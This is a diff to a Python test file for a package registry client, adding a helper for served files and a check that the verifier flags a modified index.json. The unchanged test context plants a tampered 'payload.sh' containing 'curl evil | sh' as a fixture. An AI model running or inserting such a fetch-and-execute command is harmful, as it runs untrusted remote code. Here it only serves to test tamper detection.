@@ -16,6 +16,7 @@ from appshelf.client.transport import FolderTransport
 from appshelf.client.verify import verify_registry
 from appshelf.source.lifecycle import record_standing
 from conftest import StaticServer, build
+from generations import served
 
 from .conftest import ClientFactory, cli
 
@@ -136,10 +137,12 @@ def test_verify_lists_every_problem(
     (root / "apps/kv-store/1.1.1/kv-store-1.1.1.tar.gz").write_bytes(b"evil")
     (root / "apps/hello-world/1.0.0/hello-world-1.0.0.tar.gz").unlink()
     (root / "apps/kv-store/1.0.0/payload.sh").write_text("curl evil | sh")
-    path = root / "apps/slack-notify/versions.json"
+    path = served(root, "apps/slack-notify/versions.json")  # what a client reads
     path.write_bytes(path.read_bytes() + b" ")
+    (root / "index.json").write_bytes(b"{}")  # a plain name: Flows consumers read it
     report = verify_registry(make_client(root), artifacts=False)
     failures = "\n".join(report.failures)
+    assert any("plain-named file(s) differ" in n and "index.json" in n for n in report.notes)
     assert (
         "kv-store 1.1.1 artifact: apps/kv-store/1.1.1/kv-store-1.1.1.tar.gz has 4 bytes" in failures
     )
@@ -193,7 +196,7 @@ def test_cli_errors(live: StaticServer) -> None:
     assert code == 1 and "http-client: no single version satisfies all of these" in out
     code, out = cli("resolve", "-r", live.url, dev, "kv-store@^1..2")
     assert code == 1 and "invalid version range" in out
-    (live.root / "apps/kv-store/app.json").write_text("{}")
+    served(live.root, "apps/kv-store/app.json").write_text("{}")
     code, out = cli("verify", live.url, dev)
     assert code == 1 and "FAILED" in out and "Error: 1 problem(s)" in out
     assert "Traceback" not in out
